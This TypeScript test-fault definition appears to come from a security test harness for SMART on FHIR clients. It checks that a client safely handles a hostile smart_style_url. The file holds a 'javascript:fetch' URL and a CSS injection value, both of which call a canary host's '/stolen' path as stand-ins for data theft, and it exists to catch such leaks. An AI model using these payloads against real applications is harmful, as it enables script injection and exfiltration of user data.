import { z } from 'zod'
import { defineFault } from '../../core/declare/fault.ts'
import { scopesPage } from '../../core/declare/spec.ts'
import { createJsonReply, type Reply, withHeader } from '../../core/http/reply.ts'
import { allOf, leaksNothing, neverSends, obtainsData } from '../../expectations/index.ts'
import { createErrorPageReply } from './create-error-page-reply.ts'

type Style = 'not-found' | 'page' | 'huge' | 'values' | 'script'

export const smartStyleHostile = defineFault({
  name: 'smart-style-hostile',
  title: 'Hostile smart_style_url',
  kind: 'must-not-leak',
  catalogueIds: ['F-135'],
  spec: scopesPage('styling'),
  description:
    'The smart_style_url is a script, or points to another host, which returns a 404, an HTML page, a megabyte, or values that load more from there.',
  requirement:
    'Work without the style; fetch it without the token, and let none of its values load anything.',
  steps: ['token'],
  when: { grantType: 'authorization_code' },
  params: () =>
    z.strictObject({
      is: z
        .enum(['not-found', 'page', 'huge', 'values', 'script'])
        .default('not-found')
        .describe('The kind of style.'),
    }),
  points: {
    'token.response': (response, { params, canary }) => ({
      ...response,
      smart_style_url:
        params.is === 'script' ? `javascript:fetch('${canary.base}/stolen')` : `${canary.base}/style.json`,
    }),
  },
  companions: {
    arrival: (value, { params, request, canary }) =>
      request.target.endsWith('/style.json') ? styleReply(params.is, canary.base) : value,
  },
  expects: allOf(obtainsData(), leaksNothing(), neverSends('/stolen')),
})

/** Creates the reply of a style, which every origin may read. */
function styleReply(is: Style, elsewhere: string): Reply {
  return withHeader(body(is, elsewhere), 'Access-Control-Allow-Origin', '*')
}

function body(is: Style, elsewhere: string): Reply {
  if (is === 'not-found') return createJsonReply(404, {})
  if (is === 'page') return createErrorPageReply(200, 'Style')
  if (is === 'huge') return createJsonReply(200, { color_background: '#'.padEnd(1_000_000, '0') })
  const value = `red; background: url("${elsewhere}/stolen")`
  return createJsonReply(200, { color_background: value, dim_font_size: value, font_family_body: value })
}
